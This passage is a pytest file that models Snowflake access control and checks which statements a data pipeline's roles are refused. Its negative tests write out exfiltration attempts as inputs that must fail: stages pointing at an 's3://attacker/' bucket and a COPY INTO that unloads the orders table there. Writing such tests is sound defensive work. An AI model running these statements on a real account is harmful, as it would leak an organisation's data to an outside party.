"""The account setup files (sql/setup/account/) on a Snowflake account, read against the documented privileges.

fakesnow runs no warehouse, role, grant, integration, user, network policy or account parameter, so these
tests replay the files' statements, in order, through a model of Snowflake's access control taken from the
docs, then replay the pipeline's migrations as the pipeline role and the health page's queries as the
read-only role, and say what each role can and cannot do:

- system roles: ACCOUNTADMIN inherits SECURITYADMIN (which inherits USERADMIN) and SYSADMIN; SYSADMIN
  holds CREATE WAREHOUSE and CREATE DATABASE, USERADMIN CREATE ROLE and CREATE USER, SECURITYADMIN
  MANAGE GRANTS and CREATE NETWORK POLICY, only ACCOUNTADMIN CREATE INTEGRATION and ALTER ACCOUNT
  (https://docs.snowflake.com/en/user-guide/security-access-control-overview#system-defined-roles,
  https://docs.snowflake.com/en/sql-reference/sql/alter-account); USE ROLE needs the role granted to the
  user (https://docs.snowflake.com/en/sql-reference/sql/use-role);
- an object's owner, and every role above it, holds all its privileges; an object in a schema needs USAGE
  on its database and schema; CREATE TABLE (also temporary and transient), CREATE VIEW, CREATE STAGE and
  CREATE FILE FORMAT are schema privileges, CREATE SCHEMA a database privilege; ALTER and DROP need
  OWNERSHIP; SELECT, INSERT, UPDATE, DELETE and TRUNCATE are table privileges, SELECT a view privilege
  (https://docs.snowflake.com/en/user-guide/security-access-control-privileges,
  https://docs.snowflake.com/en/sql-reference/sql/drop-schema, .../sql/alter-stage);
- GRANT needs ownership of the object or MANAGE GRANTS; in a managed access schema object owners lose it:
  only the schema's owner or a role with MANAGE GRANTS may grant privileges on its objects, future grants
  included (https://docs.snowflake.com/en/sql-reference/sql/grant-privilege,
  https://docs.snowflake.com/en/user-guide/security-access-control-configure#creating-managed-access-schemas);
  future grants in a regular schema need MANAGE GRANTS; a future grant applies to each object created
  (or replaced) afterwards; ALTER SCHEMA ... ENABLE MANAGED ACCESS is modelled as needing both the
  schema's ownership and MANAGE GRANTS, the strictest reading of
  https://docs.snowflake.com/en/sql-reference/sql/alter-schema (the files run it as ACCOUNTADMIN, which
  holds both);
- CREATE STAGE needs CREATE STAGE on the schema and, with a storage integration, USAGE on the integration
  (https://docs.snowflake.com/en/sql-reference/sql/create-stage#access-control-requirements); the
  external stage's URL must lie inside the integration's STORAGE_ALLOWED_LOCATIONS
  (https://docs.snowflake.com/en/sql-reference/sql/create-storage-integration);
- internal stages take READ (LIST, COPY from) and WRITE (PUT, REMOVE, COPY into), external stages USAGE
  (https://docs.snowflake.com/en/user-guide/security-access-control-privileges#stage-privileges,
  https://docs.snowflake.com/en/sql-reference/sql/list, .../sql/put, .../sql/remove); COPY from an
  external stage that uses a storage integration also needs USAGE on the integration
  (https://docs.snowflake.com/en/sql-reference/sql/copy-into-table, "Access control requirements");
- the account's guard rails (https://docs.snowflake.com/en/sql-reference/parameters):
  PREVENT_UNLOAD_TO_INLINE_URL refuses COPY INTO <location> to a URL written in the statement;
  REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_CREATION refuses an external stage without a storage integration
  (inline credentials or none); REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_OPERATION refuses a load or unload
  through anything but a named external stage that uses one. None concerns internal stages;
- a TYPE = SERVICE user signs in with a key pair and cannot have a password
  (https://docs.snowflake.com/en/sql-reference/sql/create-user, https://docs.snowflake.com/en/user-guide/key-pair-auth);
- ALTER USER ... SET NETWORK_POLICY needs ownership of the user and of the policy, or SECURITYADMIN
  (https://docs.snowflake.com/en/user-guide/network-policies#activating-network-policies-for-individual-users).
"""

from __future__ import annotations

import base64
import re
from dataclasses import dataclass, field
from typing import Any

import pytest
import sqlglot
from sqlglot import exp

from tests.support.account import HEALTH_FILES, account_statements, public_key_pem, values
from warehouse import account, loader, setup, sql_files
from warehouse.identifiers import IdentifierError

SYSTEM_ROLES = {
    "ACCOUNTADMIN": {"SECURITYADMIN", "SYSADMIN"},
    "SECURITYADMIN": {"USERADMIN"},
    "USERADMIN": set(),
    "SYSADMIN": set(),
    "PUBLIC": set(),
}
ACCOUNT_PRIVILEGES = {
    "SYSADMIN": {"CREATE WAREHOUSE", "CREATE DATABASE"},
    "USERADMIN": {"CREATE ROLE", "CREATE USER"},
    "SECURITYADMIN": {"MANAGE GRANTS", "CREATE NETWORK POLICY"},
    "ACCOUNTADMIN": {"CREATE INTEGRATION", "ALTER ACCOUNT"},
}
SCHEMA_OBJECTS = ("TABLE", "VIEW", "STAGE", "FILE FORMAT")
GUARD_RAILS = (
    "PREVENT_UNLOAD_TO_INLINE_URL",
    "REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_CREATION",
    "REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_OPERATION",
)
_NAME = r"[\w$.]+"
_URL = r"'(?:S3|S3GOV|GCS|AZURE)://[^']*'"
_OWNERSHIP = r"GRANT OWNERSHIP ON (SCHEMA|TABLE|VIEW|STAGE) ([\w.]+) TO ROLE (\w+) COPY CURRENT GRANTS"


class Refused(Exception):
    """Snowflake would refuse the statement for the session's role; the message names the rule."""


def bind_samples(statement: str) -> str:
    return re.sub(r"%\((\w+)\)s", "'sample'", statement)


@dataclass
class Account:
    """Snowflake's access control, as far as the account files, the migrations and the pipeline's runs use it."""

    parents: dict[str, set[str]] = field(default_factory=lambda: {r: set(c) for r, c in SYSTEM_ROLES.items()})
    owners: dict[tuple[str, str], str] = field(default_factory=dict)
    grants: set[tuple[str, str, str, str]] = field(default_factory=set)  # privilege, kind, object, grantee
    future: set[tuple[str, str, str, str]] = field(default_factory=set)  # privilege, kind, schema, grantee
    users: dict[str, set[str]] = field(default_factory=dict)
    default_roles: dict[str, str] = field(default_factory=dict)
    managed: set[str] = field(default_factory=set)
    parameters: dict[str, str] = field(default_factory=dict)
    locations: dict[str, list[str]] = field(default_factory=dict)  # integration -> allowed locations
    stages: dict[str, tuple[str, str]] = field(default_factory=dict)  # stage -> (url, integration)
    user_roles: set[str] = field(default_factory=lambda: {"ACCOUNTADMIN"})  # the administrator's session
    role: str = "PUBLIC"
    database: str = ""
    schema: str = ""

    # --- who holds what -------------------------------------------------------------------------------

    def inherited(self, role: str) -> set[str]:
        seen, todo = set(), [role]
        while todo:
            current = todo.pop()
            if current not in seen:
                seen.add(current)
                todo += self.parents.get(current, set())
        return seen

    def has(self, privilege: str) -> bool:
        return any(privilege in ACCOUNT_PRIVILEGES.get(r, set()) for r in self.inherited(self.role))

    def owns(self, kind: str, name: str) -> bool:
        return self.owners.get((kind, name)) in self.inherited(self.role)

    def may(self, privilege: str, kind: str = "ACCOUNT", name: str = "") -> bool:
        if kind == "ACCOUNT":
            return self.has(privilege)
        roles = self.inherited(self.role)
        return self.owns(kind, name) or any((privilege, kind, name, r) in self.grants for r in roles)

    def exists(self, kind: str, name: str) -> bool:
        return (kind, name) in self.owners

    def require(self, allowed: bool, why: str) -> None:
        if not allowed:
            raise Refused(f"role {self.role}: {why}")

    def may_grant(self, kind: str, name: str) -> bool:
        """Ownership or MANAGE GRANTS; in a managed access schema the schema's owner, not the object's."""
        if not self.exists(kind, name):
            return False
        if self.has("MANAGE GRANTS"):
            return True
        schema = name.rsplit(".", 1)[0]
        if kind in SCHEMA_OBJECTS and schema in self.managed:
            return self.owns("SCHEMA", schema)
        return self.owns(kind, name)

    # --- names and objects ----------------------------------------------------------------------------

    def qualify(self, name: str) -> str:
        parts = name.upper().split(".")
        return ".".join([self.database, self.schema][: 3 - len(parts)] + parts)

    def schema_name(self, name: str) -> str:
        return name.upper() if "." in name else f"{self.database}.{name.upper()}"

    def reach(self, name: str) -> None:
        """An object in a schema: USAGE on its database and schema (ownership implies it)."""
        database, schema = name.split(".")[0], name.rsplit(".", 1)[0]
        self.require(self.may("USAGE", "DATABASE", database), f"no USAGE on database {database}")
        self.require(self.may("USAGE", "SCHEMA", schema), f"no USAGE on schema {schema}")

    def create(self, kind: str, name: str) -> None:
        self.owners.setdefault((kind, name), self.role)
        schema = name.rsplit(".", 1)[0]
        for privilege, future_kind, in_schema, grantee in self.future:
            if future_kind == kind and in_schema == schema:
                self.grants.add((privilege, kind, name, grantee))

    def create_in_schema(self, kind: str, name: str, replace: bool, temporary: bool = False) -> None:
        schema = name.rsplit(".", 1)[0]
        self.reach(name)
        self.require(self.may(f"CREATE {kind}", "SCHEMA", schema), f"no CREATE {kind} on schema {schema}")
        if replace and self.exists(kind, name):
            self.require(self.owns(kind, name), f"replacing {kind} {name} needs its OWNERSHIP")
            self.drop(kind, name)
        if not temporary or not self.exists(kind, name):
            self.create(kind, name)

    def drop(self, kind: str, name: str) -> None:
        self.owners.pop((kind, name), None)
        self.grants = {g for g in self.grants if (g[1], g[2]) != (kind, name)}
        self.stages.pop(name, None)

    def read_stage(self, stage: str) -> None:
        """LIST or COPY from a named stage (READ on an internal one, USAGE on an external one)."""
        self.reach(stage)
        url, integration = self.stages.get(stage, ("", ""))
        self.require(self.exists("STAGE", stage), f"stage {stage} does not exist or not authorized")
        if not url:
            self.require(self.may("READ", "STAGE", stage), f"no READ on internal stage {stage}")
            return
        self.require(self.may("USAGE", "STAGE", stage), f"stage {stage} does not exist or not authorized")
        self.require(
            bool(integration) or self.parameters.get("REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_OPERATION") != "TRUE",
            f"REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_OPERATION: stage {stage} uses no storage integration",
        )

    def copy_through_integration(self, stage: str) -> None:
        integration = self.stages.get(stage, ("", ""))[1]
        if integration:
            self.require(self.may("USAGE", "INTEGRATION", integration), f"no USAGE on integration {integration}")

    def write_stage(self, stage: str) -> None:
        self.reach(stage)
        self.require(self.exists("STAGE", stage), f"stage {stage} does not exist or not authorized")
        if self.stages.get(stage, ("", ""))[0]:
            self.read_stage(stage)
            self.copy_through_integration(stage)
        else:
            self.require(self.may("WRITE", "STAGE", stage), f"no WRITE on internal stage {stage}")

    def table_access(self, privilege: str, table: exp.Table) -> None:
        name = self.qualify(".".join(p for p in (table.catalog, table.db, table.name) if p))
        kind = "VIEW" if self.exists("VIEW", name) else "TABLE"
        self.reach(name)
        self.require(self.exists(kind, name), f"{name} does not exist or not authorized")
        self.require(self.may(privilege, kind, name), f"no {privilege} on {kind.lower()} {name}")

    def dml(self, stmt: str) -> None:
        """SELECT, INSERT, UPDATE, DELETE, MERGE: the target's privilege and SELECT on every table read."""
        parsed = sqlglot.parse_one(bind_samples(stmt), read="snowflake")
        target = parsed.this.this if isinstance(parsed.this, exp.Schema) else parsed.this
        needed = {
            exp.Insert: ["INSERT"],
            exp.Update: ["UPDATE"],
            exp.Delete: ["DELETE"],
            exp.Merge: [p for p in ("INSERT", "UPDATE", "DELETE") if f"THEN {p}" in stmt.upper()],
        }.get(type(parsed))
        if needed is None:
            target = None
        for privilege in needed or []:
            self.table_access(privilege, target)
        ctes = {cte.alias_or_name.upper() for cte in parsed.find_all(exp.CTE)}
        for table in parsed.find_all(exp.Table):
            if table is target or not table.name or (not table.db and table.name.upper() in ctes):
                continue
            self.table_access("SELECT", table)

    # --- statements -----------------------------------------------------------------------------------

    def login(self, user: str) -> None:
        """A session of ``user`` with its default role, the pipeline's database and its RAW schema."""
        self.user_roles = self.users[user]
        self.role = self.default_roles[user]
        self.run(f"use database {self.database or 'MOBILE_EVENTS'}")
        self.run("use schema raw")

    def run(self, stmt: str) -> None:
        """One statement as the session's role: applied, or Refused naming the rule."""
        s = " ".join(stmt.split()).upper()
        if m := re.fullmatch(r"USE ROLE (\w+)", s):
            self.require(any(m[1] in self.inherited(r) for r in self.user_roles), f"role {m[1]} is not granted")
            self.role = m[1]
        elif m := re.fullmatch(r"USE DATABASE (\w+)", s):
            self.require(self.may("USAGE", "DATABASE", m[1]), f"no USAGE on database {m[1]}")
            self.database = m[1]
        elif m := re.fullmatch(r"USE SCHEMA (\w+)", s):
            self.require(self.may("USAGE", "SCHEMA", f"{self.database}.{m[1]}"), f"no USAGE on schema {m[1]}")
            self.schema = m[1]
        elif m := re.fullmatch(r"ALTER ACCOUNT SET (.*)", s):
            self.require(self.has("ALTER ACCOUNT"), "account parameters are set by ACCOUNTADMIN")
            self.parameters.update(re.findall(r"(\w+) = (\w+)", m[1]))
        elif m := re.fullmatch(r"CREATE WAREHOUSE IF NOT EXISTS (\w+) .*", s):
            self.require(self.may("CREATE WAREHOUSE"), "no CREATE WAREHOUSE")
            self.create("WAREHOUSE", m[1])
        elif m := re.fullmatch(r"CREATE DATABASE (IF NOT EXISTS )?(\w+)", s):
            self.require(self.may("CREATE DATABASE"), "no CREATE DATABASE on the account")
            self.create("DATABASE", m[2])
        elif m := re.fullmatch(r"CREATE SCHEMA (IF NOT EXISTS )?([\w.]+)( WITH MANAGED ACCESS)?", s):
            name = self.schema_name(m[2])
            database = name.split(".")[0]
            self.require(self.may("CREATE SCHEMA", "DATABASE", database), f"no CREATE SCHEMA on database {database}")
            if not self.exists("SCHEMA", name) and m[3]:
                self.managed.add(name)
            self.create("SCHEMA", name)
        elif m := re.fullmatch(r"ALTER SCHEMA ([\w.]+) (ENABLE|DISABLE) MANAGED ACCESS", s):
            name = self.schema_name(m[1])
            self.require(
                self.owns("SCHEMA", name) and self.has("MANAGE GRANTS"),
                f"managed access on {name} is switched by its owner holding MANAGE GRANTS",
            )
            (self.managed.add if m[2] == "ENABLE" else self.managed.discard)(name)
        elif m := re.fullmatch(r"DROP (SCHEMA|DATABASE) (IF EXISTS )?([\w.]+)", s):
            name = self.schema_name(m[3]) if m[1] == "SCHEMA" else m[3]
            self.require(self.owns(m[1], name), f"DROP {m[1]} {name} needs its OWNERSHIP")
            self.drop(m[1], name)
        elif m := re.fullmatch(r"CREATE ROLE IF NOT EXISTS (\w+)", s):
            self.require(self.may("CREATE ROLE"), "no CREATE ROLE")
            self.create("ROLE", m[1])
            self.parents.setdefault(m[1], set())
        elif m := re.fullmatch(r"GRANT ROLE (\w+) TO (ROLE|USER) (\w+)", s):
            self.require(self.may_grant("ROLE", m[1]), f"may not grant role {m[1]}")
            if m[2] == "ROLE":
                self.require(m[3] in self.parents, f"no role {m[3]}")
                self.parents[m[3]].add(m[1])
            else:
                self.require(m[3] in self.users, f"no user {m[3]}")
                self.users[m[3]].add(m[1])
        elif m := re.fullmatch(_OWNERSHIP, s):
            name = self.schema_name(m[2]) if m[1] == "SCHEMA" else self.qualify(m[2])
            self.require(self.may_grant(m[1], name), f"may not grant privileges on {m[1].lower()} {name}")
            self.require(m[3] in self.parents, f"no role {m[3]}")
            self.owners[(m[1], name)] = m[3]
        elif m := re.fullmatch(r"GRANT ([\w ,]+?) ON (FUTURE|ALL) (TABLES|VIEWS) IN SCHEMA ([\w.]+) TO ROLE (\w+)", s):
            schema, kind, grantee = self.schema_name(m[4]), m[3][:-1], m[5]
            privileges = [p.strip() for p in m[1].split(",")]
            if m[2] == "FUTURE":
                self.require(
                    self.has("MANAGE GRANTS") or (schema in self.managed and self.owns("SCHEMA", schema)),
                    f"future grants in {schema} need MANAGE GRANTS or the managed access schema's owner",
                )
                self.future |= {(p, kind, schema, grantee) for p in privileges}
            else:
                for (object_kind, name), _ in list(self.owners.items()):
                    if object_kind == kind and name.rsplit(".", 1)[0] == schema:
                        self.require(self.may_grant(kind, name), f"may not grant privileges on {name}")
                        self.grants |= {(p, kind, name, grantee) for p in privileges}
        elif m := re.fullmatch(
            r"GRANT ([\w ,]+?) ON (WAREHOUSE|DATABASE|SCHEMA|INTEGRATION|STAGE|TABLE|VIEW|FILE FORMAT) ([\w.]+) "
            r"TO ROLE (\w+)",
            s,
        ):
            kind = m[2]
            name = {"SCHEMA": self.schema_name(m[3])}.get(kind) or (
                self.qualify(m[3]) if kind in SCHEMA_OBJECTS else m[3]
            )
            self.require(self.may_grant(kind, name), f"may not grant privileges on {kind.lower()} {name}")
            self.require(m[4] in self.parents, f"no role {m[4]}")
            self.grants |= {(p.strip(), kind, name, m[4]) for p in m[1].split(",")}
        elif m := re.fullmatch(r"CREATE STORAGE INTEGRATION IF NOT EXISTS (\w+) .*", s):
            self.require(self.may("CREATE INTEGRATION"), "no CREATE INTEGRATION")
            allowed = re.search(r"STORAGE_ALLOWED_LOCATIONS = \(([^)]*)\)", s)
            self.locations.setdefault(m[1], re.findall(r"'([^']*)'", allowed[1] if allowed else ""))
            self.create("INTEGRATION", m[1])
        elif m := re.fullmatch(rf"CREATE (OR REPLACE )?(TEMPORARY )?STAGE (IF NOT EXISTS )?({_NAME})(.*)", s):
            name, rest = self.qualify(m[4]), m[5]
            url = re.search(r"URL = '([^']*)'", rest)
            integration = re.search(r"STORAGE_INTEGRATION = (\w+)", rest)
            if url:
                self.require(
                    bool(integration)
                    or self.parameters.get("REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_CREATION") != "TRUE",
                    "REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_CREATION: an external stage needs a storage integration",
                )
            if url and integration:
                self.require(self.may("USAGE", "INTEGRATION", integration[1]), f"no USAGE on {integration[1]}")
                allowed = self.locations.get(integration[1], [])
                self.require(
                    any(url[1].startswith(location) for location in allowed),
                    f"{url[1]} is outside STORAGE_ALLOWED_LOCATIONS of {integration[1]}",
                )
            self.create_in_schema("STAGE", name, replace=bool(m[1]), temporary=bool(m[2]))
            self.stages.setdefault(name, (url[1] if url else "", integration[1] if integration else ""))
        elif m := re.fullmatch(rf"ALTER (STAGE|TABLE|VIEW|FILE FORMAT) (IF EXISTS )?({_NAME}) .*", s):
            name = self.qualify(m[3])
            self.reach(name)
            self.require(self.owns(m[1], name), f"ALTER {m[1]} {name} needs its OWNERSHIP")
        elif m := re.fullmatch(
            rf"CREATE (OR REPLACE )?(TEMPORARY |TRANSIENT )?(TABLE|VIEW|FILE FORMAT) (IF NOT EXISTS )?({_NAME})\b.*", s
        ):
            name = self.qualify(m[5])
            if m[3] == "VIEW":
                self.dml(re.split(r"\bAS\b", stmt, maxsplit=1, flags=re.IGNORECASE)[1])
            self.create_in_schema(m[3], name, replace=bool(m[1]), temporary=m[2] == "TEMPORARY ")
        elif m := re.fullmatch(rf"DROP (TABLE|VIEW|STAGE|FILE FORMAT) (IF EXISTS )?({_NAME})", s):
            name = self.qualify(m[3])
            if self.exists(m[1], name) or not m[2]:
                self.reach(name)
                self.require(self.owns(m[1], name), f"DROP {m[1]} {name} needs its OWNERSHIP")
                self.drop(m[1], name)
        elif m := re.fullmatch(rf"TRUNCATE TABLE (IF EXISTS )?({_NAME})", s):
            self.table_access("TRUNCATE", sqlglot.exp.to_table(m[2]))
        elif m := re.fullmatch(rf"COPY INTO ({_URL}) .*", s):
            self.require(
                self.parameters.get("PREVENT_UNLOAD_TO_INLINE_URL") != "TRUE",
                "PREVENT_UNLOAD_TO_INLINE_URL: no COPY INTO a URL written in the statement",
            )
            self.require(
                self.parameters.get("REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_OPERATION") != "TRUE",
                "REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_OPERATION: unload only through a named stage",
            )
        elif m := re.fullmatch(rf"COPY INTO @({_NAME})\S* FROM ({_NAME})\b.*", s):
            self.write_stage(self.qualify(m[1]))
            self.table_access("SELECT", sqlglot.exp.to_table(m[2]))
        elif m := re.fullmatch(rf"COPY INTO ({_NAME})( \([^)]*\))? FROM (.*)", s):
            self.table_access("INSERT", sqlglot.exp.to_table(m[1]))
            source = re.search(rf"@({_NAME})", m[3])
            self.require(
                source is not None or self.parameters.get("REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_OPERATION") != "TRUE",
                "REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_OPERATION: load only through a named stage",
            )
            if source:
                stage = self.qualify(source[1].rstrip("."))
                self.read_stage(stage)
                self.copy_through_integration(stage)
        elif m := re.fullmatch(rf"(?:LIST|LS) '?@({_NAME})[^ ]*", s):
            self.read_stage(self.qualify(m[1]))
        elif m := re.fullmatch(rf"(?:PUT '?FILE://\S+|REMOVE|RM) '?@({_NAME})\S*( .*)?", s):
            stage = self.qualify(m[1])
            self.reach(stage)
            self.require(not self.stages.get(stage, ("", ""))[0], "PUT and REMOVE are for internal stages")
            self.require(self.may("WRITE", "STAGE", stage), f"no WRITE on stage {stage}")
        elif re.match(r"(SELECT|WITH|INSERT|UPDATE|DELETE|MERGE)\b", s):
            self.dml(stmt)
        elif m := re.fullmatch(r"CREATE NETWORK POLICY IF NOT EXISTS (\w+) .*", s):
            self.require(self.may("CREATE NETWORK POLICY"), "no CREATE NETWORK POLICY")
            self.create("NETWORK POLICY", m[1])
        elif m := re.fullmatch(
            r"CREATE USER IF NOT EXISTS (\w+) .*DEFAULT_ROLE = (\w+) DEFAULT_WAREHOUSE = (\w+) .*", s
        ):
            self.require(self.may("CREATE USER"), "no CREATE USER")
            self.require(self.exists("ROLE", m[2]) and self.exists("WAREHOUSE", m[3]), "no such role or warehouse")
            self.create("USER", m[1])
            self.users.setdefault(m[1], set())
            self.default_roles.setdefault(m[1], m[2])
        elif m := re.fullmatch(r"ALTER USER (\w+) SET NETWORK_POLICY = (\w+)", s):
            owns_both = self.owns("USER", m[1]) and self.owns("NETWORK POLICY", m[2])
            self.require(
                self.exists("NETWORK POLICY", m[2]) and (owns_both or "SECURITYADMIN" in self.inherited(self.role)),
                f"may not set network policy {m[2]} on {m[1]}",
            )
        else:
            raise AssertionError(f"statement not in the model (add it, with its documented privileges): {stmt}")


def set_up(variables: dict[str, str], state: Account | None = None) -> Account:
    """The account files on ``state`` (a fresh account by default), each statement as its file's role."""
    state = state or Account()
    for stmt in account_statements(variables):
        state.run(stmt)
    state.database, state.schema = variables["database"], ""
    return state


def migrate(state: Account, user: str) -> None:
    """What ``python -m warehouse setup`` runs on Snowflake, as ``user``: the record table, then each migration."""
    state.login(user)
    state.run(sql_files.statements("setup/schema_migrations.sql")[0])
    for migration in setup.migrations():
        for stmt in migration.statements:
            state.run(stmt)
        for stmt in sql_files.statements("setup/record_migration.sql"):
            state.run(bind_samples(stmt))


@pytest.fixture(scope="module")
def variables() -> dict[str, str]:
    return account.setup_variables(values())


@pytest.fixture(scope="module")
def fresh_account(variables) -> tuple[Account, dict[str, str]]:
    return set_up(variables), variables


@pytest.fixture
def migrated(variables) -> Account:
    """A fresh account after the account files and every migration (run as the pipeline's user)."""
    state = set_up(variables)
    migrate(state, variables["user"])
    return state


def test_account_files_run_in_order_on_a_fresh_account_each_as_a_role_allowed_to(fresh_account) -> None:
    state, variables = fresh_account
    db = variables["database"]
    assert state.exists("WAREHOUSE", variables["warehouse"])
    for schema in (f"{db}.RAW", f"{db}.ANALYTICS"):
        assert state.owners[("SCHEMA", schema)] == "SYSADMIN"
        assert schema in state.managed
    assert state.exists("STAGE", f"{db}.RAW.LANDING_S3")
    assert {state.parameters[p] for p in GUARD_RAILS} == {"TRUE"}


def test_the_pipeline_role_gets_exactly_what_it_needs(fresh_account) -> None:
    state, variables = fresh_account
    db, role = variables["database"], variables["role"]
    granted = {(p, kind, name) for p, kind, name, grantee in state.grants if grantee == role}
    assert granted == {
        ("USAGE", "WAREHOUSE", variables["warehouse"]),
        ("USAGE", "DATABASE", db),
        ("USAGE", "SCHEMA", f"{db}.RAW"),
        ("CREATE TABLE", "SCHEMA", f"{db}.RAW"),
        ("CREATE FILE FORMAT", "SCHEMA", f"{db}.RAW"),
        ("CREATE STAGE", "SCHEMA", f"{db}.RAW"),
        ("USAGE", "SCHEMA", f"{db}.ANALYTICS"),
        ("CREATE TABLE", "SCHEMA", f"{db}.ANALYTICS"),
        ("CREATE VIEW", "SCHEMA", f"{db}.ANALYTICS"),
        ("USAGE", "STAGE", f"{db}.RAW.LANDING_S3"),
        ("USAGE", "INTEGRATION", variables["integration"]),
    }
    assert not {name for (_, name), owner in state.owners.items() if owner == role}, "owns nothing before migrating"
    assert not {f for f in state.future if f[3] == role}
    assert "SYSADMIN" in {parent for parent, children in state.parents.items() if role in children}
    assert state.users[variables["user"]] == {role}


def test_the_pipeline_role_runs_every_migration_and_owns_what_they_create(migrated, variables) -> None:
    db, role = variables["database"], variables["role"]
    owned = {name for (kind, name), owner in migrated.owners.items() if owner == role}
    assert {f"{db}.RAW.LOAD_AUDIT", f"{db}.RAW.LANDING_INTERNAL", f"{db}.RAW.NDJSON_LINES"} <= owned
    assert {f"{db}.ANALYTICS.ORDERS", f"{db}.ANALYTICS.VALUE_DRIFT", f"{db}.RAW.SCHEMA_MIGRATIONS"} <= owned
    assert migrated.owners[("SCHEMA", f"{db}.RAW")] == "SYSADMIN"


def loads(stage: str) -> list[str]:
    """The statements a load runs on ``stage`` (the loader's own COPY) around the tables it writes."""
    return [
        "create temporary table if not exists landing_lines (file_name varchar, line varchar)",
        "delete from landing_lines",
        loader.copy_statement(f"@{stage}", ["year=2024/a.gz"]),
        "insert into raw.events_raw (event_key, file_name) select line, file_name from landing_lines",
        "update raw.load_audit set status = 'LOADED' where file_name = 'a'",
    ]


@pytest.mark.parametrize(
    "statements",
    [
        pytest.param(["list @RAW.LANDING_S3/setup_access_check/", *loads("RAW.LANDING_S3")], id="external stage"),
        pytest.param(
            [
                "put 'file:///tmp/load-1/*' @RAW.LANDING_INTERNAL/f1/ auto_compress = false overwrite = true",
                "list @RAW.LANDING_INTERNAL",
                *loads("RAW.LANDING_INTERNAL/f1/"),
                "remove @RAW.LANDING_INTERNAL/f1/",
            ],
            id="internal stage",
        ),
        pytest.param(
            [
                "merge into analytics.users as target using (select 'u' as user_id) as source "
                "on target.user_id = source.user_id when matched then update set city = 'x' "
                "when not matched then insert (user_id) values (source.user_id)",
                "delete from analytics.purchase_counts where user_id = 'u'",
                "truncate table raw.drift_observations",
                "create or replace temporary table stg as select event_key from raw.events_raw",
                "alter table raw.events_raw add column if not exists extra varchar",
                "drop table if exists raw.known_values",
            ],
            id="own tables",
        ),
    ],
)
def test_the_pipeline_role_can_do_its_job(migrated, variables, statements: list[str]) -> None:
    """Loads through either stage with the guard rails on (they concern external locations, not the internal
    stage), and full use of the tables it owns, drops included."""
    migrated.login(variables["user"])
    for stmt in statements:
        migrated.run(stmt)


@pytest.mark.parametrize(
    ("statement", "rule"),
    [
        ("grant select on table raw.events_raw to role public", "may not grant"),
        ("grant ownership on table analytics.orders to role public copy current grants", "may not grant"),
        ("grant select on future tables in schema raw to role public", "future grants"),
        ("grant role MOBILE_EVENTS_READER to role MOBILE_EVENTS_LOADER", "may not grant role"),
        ("drop schema MOBILE_EVENTS.raw", "OWNERSHIP"),
        ("drop schema analytics", "OWNERSHIP"),
        ("alter schema MOBILE_EVENTS.raw disable managed access", "managed access"),
        ("create schema if not exists MOBILE_EVENTS.exfil", "CREATE SCHEMA"),
        ("create database exfil", "CREATE DATABASE"),
        (
            "create stage raw.exfil url = 's3://attacker/' credentials = (aws_key_id = 'AKIA' aws_secret_key = 's')",
            "REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_CREATION",
        ),
        ("create stage raw.exfil url = 's3://attacker/'", "REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_CREATION"),
        (
            "create stage raw.exfil url = 's3://attacker/' storage_integration = MOBILE_EVENTS_S3",
            "STORAGE_ALLOWED_LOCATIONS",
        ),
        (
            "create or replace stage raw.landing_s3 url = 's3://mobile-events-landing/landing/' "
            "storage_integration = MOBILE_EVENTS_S3",
            "OWNERSHIP",
        ),
        ("alter stage raw.landing_s3 set url = 's3://attacker/'", "OWNERSHIP"),
        (
            "copy into 's3://attacker/dump/' from analytics.orders "
            "credentials = (aws_key_id = 'AKIA' aws_secret_key = 's')",
            "PREVENT_UNLOAD_TO_INLINE_URL",
        ),
        (
            "copy into 's3://mobile-events-landing/landing/dump/' from analytics.orders "
            "storage_integration = MOBILE_EVENTS_S3",
            "PREVENT_UNLOAD_TO_INLINE_URL",
        ),
        (
            "copy into raw.events_raw from 's3://attacker/x/' credentials = (aws_key_id = 'AKIA' aws_secret_key = 's')",
            "REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_OPERATION",
        ),
        ("alter account set prevent_unload_to_inline_url = false", "ACCOUNTADMIN"),
        ("use role sysadmin", "not granted"),
        ("use role MOBILE_EVENTS_READER", "not granted"),
    ],
)
def test_the_pipeline_role_cannot(migrated, variables, statement: str, rule: str) -> None:
    """Share its tables, drop its schemas, make a way out of the account, or loosen the guard rails."""
    migrated.login(variables["user"])
    with pytest.raises(Refused, match=rule):
        migrated.run(statement)


def test_unloading_to_the_landing_stage_is_refused_by_s3_not_by_snowflake(migrated, variables) -> None:
    """USAGE on an external stage serves loads and unloads alike, so Snowflake lets the pipeline role write
    to the landing folder through its stage; S3 refuses it: the integration's AWS role may only read and
    list there (and the bucket policy denies PutObject under the landing folder to all but Firehose)."""
    from aws_infrastructure import policies

    migrated.login(variables["user"])
    migrated.run("copy into @RAW.LANDING_S3/dump/ from analytics.orders")
    storage = policies.snowflake_read("arn:aws:s3:::mobile-events-landing", "landing/")
    actions = set()
    for statement in storage["Statement"]:
        actions |= {statement["Action"]} if isinstance(statement["Action"], str) else set(statement["Action"])
    assert actions and not {a for a in actions if not a.startswith(("s3:Get", "s3:List"))}


def health_statements() -> list[str]:
    return [bind_samples(stmt) for relative in HEALTH_FILES for stmt in sql_files.statements(relative)]


def test_the_read_only_role_reads_everything_the_health_page_reads(migrated, variables) -> None:
    """Including tables and the view that migrations create or replace after the grants (future grants)."""
    migrated.login(variables["read_user"])
    assert migrated.role == variables["read_role"]
    statements = health_statements()
    assert len(statements) >= len(HEALTH_FILES)
    for stmt in statements:
        migrated.run(stmt)


@pytest.mark.parametrize(
    ("statement", "rule"),
    [
        ("insert into raw.load_audit (file_name) values ('x')", "no INSERT"),
        ("update analytics.orders set status = 'x'", "no UPDATE"),
        ("delete from raw.rejected_events", "no DELETE"),
        ("truncate table raw.events_raw", "no TRUNCATE"),
        (
            "merge into analytics.users as target using (select 'u' as user_id) as source "
